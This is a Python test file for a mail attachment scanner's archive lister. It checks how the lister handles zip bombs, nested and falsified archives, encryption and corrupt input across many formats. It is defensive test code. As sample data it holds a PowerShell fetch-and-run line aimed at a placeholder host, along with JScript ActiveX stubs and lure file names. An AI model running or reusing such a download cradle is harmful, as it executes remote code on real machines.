"""Bounded archive listings: zip, 7z, rar, iso, gzip/bzip2/xz, tar, cab, bombs."""

from __future__ import annotations

import bz2
import hashlib
import io
import lzma
import random
import struct
import tarfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rempart.mail.archives import (
    CONTAINER_KINDS,
    RATIO_FLOOR,
    Budget,
    list_archive,
    onenote_files,
)
from rempart.mail.filetypes import sniff
from rempart.mail.limits import MailLimits, MiB

from .support import attachment_builders, count_inflated

B = attachment_builders()


def _list(data: bytes, **limits: int) -> object:
    lim = MailLimits(**limits)  # type: ignore[arg-type]
    return list_archive(data, sniff(data).kind, lim, Budget(lim), "attachment.bin")


def test_zip_members_are_read_hashed_and_typed() -> None:
    pe = B.pe()
    data = B.zip_file([B.ZipMember("docs/a.pdf", B.pdf("x")), B.ZipMember("setup.exe", pe)])
    listing = list_archive(data, "zip")
    assert [m.path for m in listing.members] == ["docs/a.pdf", "setup.exe"]
    exe = listing.members[1]
    assert exe.filetype is not None and exe.filetype.kind == "pe"
    assert exe.sha256 == hashlib.sha256(pe).hexdigest()
    assert (exe.size, exe.depth, exe.truncated, exe.encrypted) == (len(pe), 0, False, False)
    assert not listing.encrypted and not listing.bomb and not listing.errors


def test_nested_archives_are_followed_with_their_path() -> None:
    inner = B.zip_file([B.ZipMember("payload.js", b"var a = new ActiveXObject('x');")])
    data = B.zip_file([B.ZipMember("lot/inner.zip", inner)])
    listing = list_archive(data, "zip")
    paths = [(m.path, m.depth) for m in listing.members]
    assert paths == [("lot/inner.zip", 0), ("lot/inner.zip/payload.js", 1)]
    assert listing.members[1].filetype is not None
    assert listing.members[1].filetype.kind == "jscript"


def test_zipcrypto_and_aes_members_are_encrypted_not_read() -> None:
    data = B.zip_file([B.ZipMember("f.js", b"x" * 50, password=b"1234")])
    listing = list_archive(data, "zip")
    assert listing.encrypted and listing.members[0].encrypted
    assert listing.members[0].filetype is None and listing.members[0].sha256 == ""
    aes = bytearray(B.zip_file([B.ZipMember("g.txt", b"y", stored=True)]))
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):  # method 99 = WinZip AES
        at = aes.find(sig)
        struct.pack_into("<H", aes, at + (8 if sig == b"PK\x03\x04" else 10), 99)
    assert list_archive(bytes(aes), "zip").members[0].encrypted


def test_one_gib_of_zeros_is_refused_from_the_directory_fast(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    data = B.zero_bomb_zip(1024)
    assert len(data) < 1_200_000
    inflated = count_inflated(monkeypatch)
    budget = Budget()
    listing = list_archive(data, "zip", budget=budget)
    assert listing.bomb == "zip: member 1 ratio 1011:1, not unpacked (zip bomb)"
    assert "zip: declares 1024 MiB unpacked, over the 50 MiB budget" in listing.errors
    assert listing.members[0].filetype is None
    # refused from the central directory alone: no decompressor ran, nothing was charged
    assert inflated == []
    assert budget.bytes_left == MailLimits().max_unpacked_bytes


def test_recursive_42_zip_style_bomb_is_handled_fast(monkeypatch: pytest.MonkeyPatch) -> None:
    data = B.nested_bomb(levels=6, copies=16, leaf_mib=16)
    assert len(data) < 100_000
    inflated = count_inflated(monkeypatch)
    listing = list_archive(data, "zip")
    # one archive per level followed is unpacked (identical copies are not read again),
    # and only the small nested archives themselves, never a 16 MiB leaf
    assert len(inflated) <= MailLimits().max_archive_depth + 1
    assert sum(map(sum, inflated)) < MiB
    assert "nests archives deeper than 3 levels, not followed" in listing.bomb
    assert any("identical nested archives not listed again" in e for e in listing.errors)
    assert listing.truncated
    assert len(listing.members) < 100


def test_recursive_bomb_with_shallow_nesting_hits_the_ratio() -> None:
    listing = list_archive(B.nested_bomb(levels=2, copies=4, leaf_mib=16), "zip")
    assert listing.bomb.startswith("zip: member 1 ratio")
    assert listing.members[0].path == "lvl0-0.zip"


def test_falsified_sizes_are_caught_while_streaming(monkeypatch: pytest.MonkeyPatch) -> None:
    stream, crc = B.zero_deflate(256)
    inflated = count_inflated(monkeypatch)
    for declared in (0, 1000):
        data = B.zip_file([B.ZipMember("small.txt", raw=stream, size=declared, crc=crc)])
        inflated.clear()
        listing = list_archive(data, "zip")
        assert "unpacks to more than its declared" in listing.bomb
        # streaming stopped one byte past the declared size, not after 256 MiB
        assert len(inflated) == 1 and sum(inflated[0]) <= declared + 1


def test_overlapping_entries_bomb() -> None:
    one = bytearray(B.zip_file([B.ZipMember("a.txt", b"x" * 100)]))
    cd = one.find(b"PK\x01\x02")
    end = one.find(b"PK\x05\x06")
    record = bytes(one[cd:end])
    twice = bytes(one[:cd]) + record + record.replace(b"a.txt", b"b.txt")
    eocd = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 2, 2, 2 * len(record), cd, 0)
    listing = list_archive(twice + eocd, "zip")
    assert "overlap" in listing.bomb


def test_member_cap_and_budget() -> None:
    data = B.zip_file([B.ZipMember(f"f{i}.txt", b"hello") for i in range(20)])
    capped = _list(data, max_archive_members=5)
    assert len(capped.members) == 5 and capped.truncated  # type: ignore[attr-defined]
    assert "more than 5 members" in capped.errors[-1]  # type: ignore[attr-defined]
    noise = [random.Random(i).randbytes(1 << 20) for i in range(3)]
    big = B.zip_file([B.ZipMember(f"b{i}.bin", data) for i, data in enumerate(noise)])
    lim = MailLimits(max_unpacked_bytes=1_500_000)
    budget = Budget(lim)
    listing = list_archive(big, "zip", lim, budget)
    read = [m for m in listing.members if m.sha256]
    assert len(read) == 1 and listing.truncated
    assert budget.bytes_left < 1_500_000


def test_time_budget_stops_listing() -> None:
    data = B.zip_file([B.ZipMember(f"f{i}.txt", b"x") for i in range(10)])
    listing = list_archive(data, "zip", budget=Budget(seconds=-1))
    assert listing.members == () and listing.truncated
    assert "time budget spent" in listing.errors[0]


def test_cut_and_garbage_zips_do_not_raise() -> None:
    data = B.zip_file([B.ZipMember("a.txt", b"hello " * 1000)])
    assert list_archive(data[: len(data) // 2], "zip").errors
    bad = bytearray(data)
    bad[40:60] = b"\xff" * 20  # corrupt deflate data
    listing = list_archive(bytes(bad), "zip")
    assert len(listing.members) == 1 and listing.members[0].sha256 == ""
    assert "unreadable" in listing.errors[0]


def test_seven_zip_names_and_encryption() -> None:
    plain = list_archive(B.seven_zip({"a.js": b"x", "b.txt": b"y"}, None, False), "7z")
    assert [m.path for m in plain.members] == ["a.js", "b.txt"] and not plain.encrypted
    members = list_archive(B.seven_zip({"a.js": b"x"}, "pw", False), "7z")
    assert members.encrypted and not members.headers_encrypted
    assert members.members[0].path == "a.js"
    hidden = list_archive(B.seven_zip({"a.js": b"x"}, "pw", True), "7z")
    assert hidden.encrypted and hidden.headers_encrypted and hidden.members == ()


def test_rar_listing_without_unrar() -> None:
    data = B.rar5([("docs/scan.vbs", b"WScript.Echo 1"), ("b.txt", b"hi")])
    listing = list_archive(data, "rar")
    assert [m.path for m in listing.members] == ["docs/scan.vbs", "b.txt"]
    # stored members are read directly (no unrar tool is ever run)
    assert listing.members[1].sha256 == hashlib.sha256(b"hi").hexdigest()
    enc = list_archive(B.rar5([("scan.vbs", b"x")], encrypted=True), "rar")
    assert enc.encrypted and enc.members[0].encrypted and enc.members[0].sha256 == ""
    assert list_archive(b"Rar!\x1a\x07\x01\x00" + b"\xff" * 50, "rar").members == ()


def test_iso_listing_reads_members() -> None:
    data = B.iso({"Programme.pdf.lnk": B.lnk(), "notes.txt": b"hello"})
    listing = list_archive(data, "iso")
    kinds = {m.path: m.filetype.kind if m.filetype else None for m in listing.members}
    assert kinds == {"Programme.pdf.lnk": "lnk", "notes.txt": "text"}


def test_single_file_compressors() -> None:
    gz = io.BytesIO()
    with tarfile.open(fileobj=gz, mode="w:gz") as tf:
        info = tarfile.TarInfo("x/run.ps1")
        body = b"IEX (New-Object Net.WebClient).DownloadString('http://a.example')"
        info.size = len(body)
        tf.addfile(info, io.BytesIO(body))
    listing = list_archive(gz.getvalue(), "gzip", name="backup.tgz")
    assert [m.path for m in listing.members] == ["backup.tar", "backup.tar/x/run.ps1"]
    assert listing.members[1].filetype is not None
    assert listing.members[1].filetype.kind == "powershell"
    named = zlib.compressobj(9, zlib.DEFLATED, 31)
    with_name = bytearray(named.compress(b"hello") + named.flush())
    with_name[3] |= 0x08
    with_name[10:10] = b"orig.txt\x00"
    assert list_archive(bytes(with_name), "gzip").members[0].path == "orig.txt"
    assert list_archive(bz2.compress(b"hello"), "bzip2", name="a.txt.bz2").members[0].path == (
        "a.txt"
    )
    assert list_archive(lzma.compress(b"hello"), "xz", name="a.xz").members[0].sha256


def test_compression_bombs_stop_early(monkeypatch: pytest.MonkeyPatch) -> None:
    inflated = count_inflated(monkeypatch)
    gz = list_archive(B.gzip_zero_bomb(1024), "gzip", name="x.gz")
    assert gz.bomb == "gzip: ratio 1011:1, not unpacked (bomb)"
    assert inflated == []  # refused from the size in the gzip trailer, nothing decompressed
    bz = list_archive(bz2.compress(bytes(32 << 20), 1), "bzip2")
    assert "ratio over" in bz.bomb
    # stopped at the first ratio check past the floor (chunks of at most 1 MiB), not at 32 MiB
    assert len(inflated) == 1 and sum(inflated[0]) <= RATIO_FLOOR + MiB


def test_cab_names_without_decompression() -> None:
    listing = list_archive(B.cab({"setup.exe": B.pe(), "lisez-moi.txt": b"x"}), "cab")
    assert [(m.path, m.filetype) for m in listing.members] == [
        ("setup.exe", None),
        ("lisez-moi.txt", None),
    ]


def test_disk_images_not_opened_are_reported() -> None:
    listing = list_archive(b"vhdxfile" + bytes(100), "vhdx")
    assert listing.truncated and "not listed" in listing.errors[0]


def test_onenote_embedded_files() -> None:
    found = onenote_files(B.onenote(B.pe()))
    assert [(ft.kind, size) for ft, size in found] == [("pe", len(B.pe()))]


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(sorted(CONTAINER_KINDS)), st.binary(max_size=4000))
def test_garbage_never_raises(kind: str, data: bytes) -> None:
    listing = list_archive(data, kind)
    assert isinstance(listing.errors, tuple)


@pytest.mark.parametrize("cut", [30, 100, 1000, 5000])
def test_truncated_real_archives_never_raise(cut: int) -> None:
    for data in (
        B.iso({"a.txt": b"x"}),
        B.seven_zip({"a.txt": b"x" * 3000}, None, False),
        B.rar5([("a.txt", b"x" * 3000)]),
        B.cab({"a.txt": b"x" * 3000}),
        B.nested_bomb(levels=3, copies=2, leaf_mib=2),
    ):
        list_archive(data[:cut], sniff(data).kind)


def test_concatenated_and_cut_zips_show_local_only_members() -> None:
    first = B.zip_file([B.ZipMember("facture.pdf", B.pdf("x"))])
    second = B.zip_file([B.ZipMember("facture.js", b"var x = new ActiveXObject('a');")])
    both = list_archive(first + second, "zip")
    assert [m.path for m in both.members] == ["facture.js", "facture.pdf"]
    assert "zip: 1 member(s) only in local headers (cut or concatenated zip)" in both.errors
    cut = list_archive(second[:60], "zip")
    assert [m.path for m in cut.members] == ["facture.js"] and cut.truncated
